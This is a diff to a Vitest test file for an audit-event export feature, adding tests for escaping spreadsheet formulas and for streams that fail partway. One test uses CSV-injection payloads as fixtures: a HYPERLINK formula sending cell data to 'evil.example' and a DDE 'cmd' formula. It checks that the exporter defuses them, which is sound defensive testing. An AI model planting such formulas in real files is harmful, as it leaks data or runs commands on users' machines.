@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, it } from "vitest";
 import { db } from "@/lib/db/client";
-import { exportEvents, exportFields } from "./export-events";
+import { exportEvents, exportFields, incompleteMarker } from "./export-events";
 import { emptyFilter, withCondition } from "./filters";
 import { seedEvents } from "./test-events";
 import { DEFAULT_COLUMNS, EVENT_COLUMNS } from "./view";
@@ -36,7 +36,7 @@ const read = async (stream: ReadableStream<Uint8Array>) => new Response(stream).
 describe("exportEvents", () => {
   it("writes every matching row as CSV, in the table's order, across batches", async () => {
     const ends: Array<[number, boolean]> = [];
-    const text = await read(exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 250, onEnd: (n, ok) => ends.push([n, ok]) }));
+    const text = await read(await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 250, onEnd: (n, ok) => ends.push([n, ok]) }));
     const [header, ...rows] = parseCsv(text);
     expect(header).toEqual(exportFields(DEFAULT_COLUMNS).map((f) => f.name));
     const gids = await db().$queryRaw<{ gid: string }[]>`SELECT gid FROM audit_event ORDER BY created_at DESC, gid DESC`;
@@ -49,15 +49,35 @@ describe("exportEvents", () => {
     await db().$executeRaw`INSERT INTO audit_event (gid, workspace_gid, created_at, event_type, actor_type, actor_name, details, raw)
       VALUES ('77', '1', now(), 'task_deleted', 'user', '=HYPERLINK("x")', ${JSON.stringify({ old_value: 'a, "b"\nc' })}::jsonb, '{}'::json)`;
     const filter = withCondition(all, { dimension: "text", value: "77", exclude: false });
-    const [, row] = parseCsv(await read(exportEvents({ filter, columns: ["actor", "details"], sort: "newest", format: "csv" })));
+    const [, row] = parseCsv(await read(await exportEvents({ filter, columns: ["actor", "details"], sort: "newest", format: "csv" })));
     const fields = exportFields(["actor", "details"]).map((f) => f.name);
     const cell = (name: string) => row![fields.indexOf(name)];
     expect(cell("actor_name")).toBe(`'=HYPERLINK("x")`);
     expect(JSON.parse(cell("details")!)).toEqual({ old_value: 'a, "b"\nc' });
   });
 
+  it("case 4: defuses a formula in every cell of upstream origin, not only the names", async () => {
+    const formulas = { subtype: '=HYPERLINK("http://evil.example/?"&A1,"x")', auth: "=cmd|' /C calc'!A0" };
+    const v = { tab: "\tname-formula-78", cr: "\rmail" };
+    await db().$executeRaw`INSERT INTO audit_event (gid, workspace_gid, created_at, event_type, event_category, actor_type, actor_gid, actor_name, actor_email,
+        resource_type, resource_subtype, resource_gid, resource_name, resource_email, context_type, client_ip, user_agent, auth_method, oauth_app_name, details, raw)
+      VALUES ('-78', '+1', now(), '=event()', '@category', '-user', '+2', '=a', '@b', '+type', ${formulas.subtype}, '-3', ${v.tab}, ${v.cr}, '=web', '10.0.0.1',
+        '=ua', ${formulas.auth}, '@app', '"=json"'::jsonb, '{}'::json)`;
+    const filter = withCondition(all, { dimension: "text", value: "name-formula-78", exclude: false });
+    const [header, row] = parseCsv(await read(await exportEvents({ filter, columns: [...EVENT_COLUMNS], sort: "newest", format: "csv" })));
+    const cells = Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
+    expect(cells.resource_subtype).toBe(`'${formulas.subtype}`);
+    expect(cells.auth_method).toBe(`'${formulas.auth}`);
+    for (const [name, value] of Object.entries(cells)) {
+      if (name === "created_at" || name === "client_ip" || name === "details") continue;
+      expect(value, name).toMatch(/^'[-=+@\t\r]/);
+    }
+    // A JSON string value starts with a quote, so it reads as text as it is.
+    expect(cells.details).toBe('"=json"');
+  });
+
   it("writes NDJSON objects with the chosen columns' fields", async () => {
-    const text = await read(exportEvents({ filter: all, columns: [...EVENT_COLUMNS], sort: "oldest", format: "ndjson", batchSize: 400 }));
+    const text = await read(await exportEvents({ filter: all, columns: [...EVENT_COLUMNS], sort: "oldest", format: "ndjson", batchSize: 400 }));
     const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
     const count = Number((await db().$queryRaw<{ n: bigint }[]>`SELECT count(*) AS n FROM audit_event`)[0]!.n);
     expect(lines).toHaveLength(count);
@@ -66,8 +86,8 @@ describe("exportEvents", () => {
   });
 
   it("ends a batch at its byte budget, long before its row count, and still writes every row", async () => {
-    const whole = await read(exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson" }));
-    const reader = exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson", batchSize: 10_000, batchBytes: 20_000 }).getReader();
+    const whole = await read(await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson" }));
+    const reader = (await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson", batchSize: 10_000, batchBytes: 20_000 })).getReader();
     const chunks: string[] = [];
     for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) chunks.push(new TextDecoder().decode(chunk.value));
     expect(chunks.join("")).toBe(whole);
@@ -76,9 +96,50 @@ describe("exportEvents", () => {
     expect(Math.max(...chunks.map((c) => c.length))).toBeLessThan(40_000);
   });
 
+  it("case 6: fails before the first byte when the first read fails", async () => {
+    const ends: Array<[number, boolean, unknown]> = [];
+    await db().$executeRawUnsafe("ALTER TABLE audit_event RENAME TO audit_event_away");
+    try {
+      await expect(exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", onEnd: (n, ok, e) => ends.push([n, ok, e]) })).rejects.toThrow();
+    } finally {
+      await db().$executeRawUnsafe("ALTER TABLE audit_event_away RENAME TO audit_event");
+    }
+    expect(ends).toEqual([]);
+  });
+
+  it.each(["csv", "ndjson"] as const)("case 6: a %s file whose reading fails later ends with a line saying it is cut short, and the stream errors", async (format) => {
+    const ends: Array<[number, boolean, unknown]> = [];
+    const stream = await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format, batchSize: 100, onEnd: (n, ok, e) => ends.push([n, ok, e]) });
+    await db().$executeRawUnsafe("ALTER TABLE audit_event RENAME TO audit_event_away");
+    let text = "";
+    let failure: unknown;
+    try {
+      const reader = stream.getReader();
+      const decoder = new TextDecoder();
+      for (;;) {
+        const { done, value } = await reader.read();
+        if (done) break;
+        text += decoder.decode(value, { stream: true });
+      }
+    } catch (error) {
+      failure = error;
+    } finally {
+      await db().$executeRawUnsafe("ALTER TABLE audit_event_away RENAME TO audit_event");
+    }
+    expect(failure, "the stream errors: the HTTP answer is broken off").toBeDefined();
+    // The batch after the first may have been asked for before the table went away.
+    expect(ends).toEqual([[expect.any(Number), false, expect.anything()]]);
+    const rows = ends[0]![0];
+    expect(rows % 100 === 0 && rows > 0 && rows < 1_100).toBe(true);
+    const lines = text.trimEnd().split(format === "csv" ? "\r\n" : "\n");
+    expect(lines.at(-1)).toBe(incompleteMarker(format, rows));
+    expect(lines.at(-1)).toContain("EXPORT INCOMPLETE");
+    expect(lines).toHaveLength(rows + (format === "csv" ? 2 : 1));
+  });
+
   it("stops reading when the client goes away", async () => {
     const ends: Array<[number, boolean]> = [];
-    const stream = exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 100, onEnd: (n, ok) => ends.push([n, ok]) });
+    const stream = await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 100, onEnd: (n, ok) => ends.push([n, ok]) });
     const reader = stream.getReader();
     await reader.read();
     await reader.read();
